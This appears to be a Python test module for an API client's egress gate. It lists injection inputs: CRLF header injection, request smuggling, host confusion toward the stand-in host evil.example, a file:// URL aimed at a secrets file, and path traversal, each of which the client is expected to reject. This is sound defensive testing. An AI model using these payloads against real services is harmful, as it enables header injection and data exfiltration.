"""Another place to go, another way to ask, another header."""

from __future__ import annotations

import dataclasses

from leaks import secrets
from leaks.attempts import Act, Attempt, at_each
from leaks.world import World
from pcevolve.egress.gate import Gate
from pcevolve.egress.retry import Patience
from pcevolve.egress.transport import Address
from pcevolve.errors import UsageError
from support.runs import ADDRESS

DIFFERS = "differs from what the plan and the release give"
TAG = "jane-canary-doe"
METHODS = ("GET", "PUT", "PATCH", "DELETE", "post", "TRACE", f"POST /{TAG} HTTP/1.1\r\nX-Leak:")
PATHS = {
    "a query": "{path}?tag=" + TAG,
    "an empty query": "{path}?",
    "a fragment": "{path}#" + TAG,
    "a slash at the end": "{path}/",
    "a doubled slash": "/{path}",
    "a percent-encoded letter": "/%761{path}",
    "another case": "/V1{path}",
    "a way around": "/" + TAG + "/..{path}",
    "another endpoint": "/v1/" + TAG,
    "a parameter": "{path};" + TAG,
    "a second host": "http://evil.example{path}",
    "a host without a scheme": "//evil.example{path}",
    "user info that makes the API's address a user": "@evil.example{path}",
    "another port": "0{path}",
    "a header of its own": "{path} HTTP/1.1\r\nX-Leak: " + TAG,
    "a second request": "{path} HTTP/1.1\r\n\r\nGET /" + TAG,
}
ADDRESSES = {
    "a user": "http://jane:doe@127.0.0.1:9",
    "a user alone": "http://jane@127.0.0.1:9",
    "a query": "http://127.0.0.1:9/?" + TAG,
    "a fragment": "http://127.0.0.1:9/#" + TAG,
    "another scheme": "file:///home/jane/" + secrets.FILE_NAME,
    "no host": "http:///" + TAG,
    "a line end": "http://127.0.0.1:9/v1\r\nX-Leak: " + TAG,
    "a line end in the host": "http://127.0.0.1:9\r\nX-Leak: " + TAG,
    "a tab": "http://127.0.0.1:9/\t" + TAG,
    "a space": "http://127.0.0.1:9/ " + TAG,
    "an empty query": "http://127.0.0.1:9/?",
    "a backslash": "http://127.0.0.1:9\\@evil.example",
    "a host in other letters": "http://127.0.0.1\u3002evil.example",
}
KEYS = {
    "a line end": "key\r\nX-Leak: " + TAG,
    "a space": "key " + TAG,
    "other letters": "clé-" + TAG,
    "nothing printable": "key\x7f",
}


def _way(**changes: str) -> Act:
    return lambda world: world.exchange(request=dataclasses.replace(world.request, **changes))


def _path(pattern: str) -> Act:
    return lambda world: _way(path=pattern.format(path=world.request.path))(world)


def _to(address: Address) -> Act:
    """The same run through a gate that leads elsewhere, as a resumed run could."""

    def act(world: World) -> object:
        world.spoilt = True
        run, patience = world.run, Patience(seconds=1, first=1)
        gate = Gate(run.transcript, world.dialect, address, world.provider, patience)
        gate.hello(run.plan.run_id)
        gate.begin(run.plan, run.account.committed, run.account.measured)
        return gate.exchange(world.request, world.call, world.source)

    return act


def _built(base_url: str, key: str | None = None) -> Act:
    return lambda world: Address(base_url, key)


ELSEWHERE = {
    "a second host": dataclasses.replace(ADDRESS, base_url="http://evil.example:9"),
    "another port": dataclasses.replace(ADDRESS, base_url="http://127.0.0.1:10"),
    "another scheme": dataclasses.replace(ADDRESS, base_url="https://127.0.0.1:9"),
    "a path before the path": dataclasses.replace(ADDRESS, base_url="http://127.0.0.1:9/" + TAG),
}

ATTEMPTS: list[Attempt] = [
    *(
        attempt
        for method in METHODS
        for attempt in at_each(
            ("create-1", "vary-1"), "methods", repr(method[:8]), _way(method=method), DIFFERS
        )
    ),
    *(
        attempt
        for name, pattern in PATHS.items()
        for attempt in at_each(("create-1", "vary-1"), "paths", name, _path(pattern), DIFFERS)
    ),
    *at_each(
        ("create-1", "vary-1", "look-0", "extend"),
        "headers",
        "a media type's parameter",
        _way(content_type=f"application/json; name={TAG}"),
        DIFFERS,
    ),
    *(
        attempt
        for name, address in ELSEWHERE.items()
        for attempt in at_each(("create-1",), "addresses", name, _to(address), "on record with another")
    ),
    *(
        Attempt("addresses", f"with {name}", "create-1", _built(url), "--api", UsageError)
        for name, url in ADDRESSES.items()
    ),
    *(
        Attempt(
            "headers", f"a key with {name}", "create-1", _built(ADDRESS.base_url, key), "API key", UsageError
        )
        for name, key in KEYS.items()
    ),
]
